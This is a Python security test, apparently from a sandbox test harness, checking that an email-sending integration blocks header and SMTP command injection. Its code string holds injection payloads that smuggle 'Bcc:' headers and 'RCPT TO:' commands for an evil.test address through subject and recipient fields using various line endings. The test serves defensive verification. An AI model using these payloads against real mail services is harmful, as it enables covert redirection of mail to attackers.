"""
Begins a second header in the subject, and a second command in an address, with every line end that somebody knows.
"""

from __future__ import annotations

from fastness.attack import mailing
from fastness.attack.arena import Arena
from fastness.attack.model import Attack, Claim, Effect, Expect, Layer, Rule
from fastness.attack.outside import Bare
from fastness.runs import RunResult

CODE = """
for end in ('\\r\\n', '\\n', '\\r', '\\x0b', '\\x85', '\\u2028', '\\r\\n\\r\\n'):
    attempt(ctx.integrations.email.send, to='ann@example.test', subject=f'hello{end}Bcc: eve@evil.test', text='t')
    attempt(ctx.integrations.email.send, to=f'ann@example.test>{end}RCPT TO:<eve@evil.test', subject='s', text='t')
    attempt(ctx.integrations.email.send, to=f'ann@example.test{end}Bcc: eve@evil.test', subject='s', text='t')
"""


def _effect(server: mailing.Server, ran: RunResult | Bare) -> Effect:
    heads = [data.partition(b"\n\r\n")[0] for _, _, data in server.taken]
    came = server.went_to("evil") + sum(line.startswith(b"Bcc") for head in heads for line in head.splitlines())
    result = ran if isinstance(ran, RunResult) else None
    return Effect(came > 0, f"a line of its own came {came} times", result)


def attack(arena: Arena) -> Effect:
    """In the tier."""
    server = mailing.serve(arena)
    with mailing.broker(arena, server) as broker:
        return _effect(server, broker.run(CODE, mailing.SCOPE))


def control(arena: Arena) -> Effect:
    """Before a careless host."""
    server = mailing.serve(arena)
    return _effect(server, mailing.control(arena, CODE, server))


ATTACK = Attack(
    id="broker.integrations_header",
    claim=Claim(Rule.GRANTED, "No text of a mail begins a header field or a command of its own."),
    tiers=dict.fromkeys(mailing.TIERS, Expect(Layer.BROKER, "header", calls=("email.send",))),
    attack=attack,
    control=control,
)
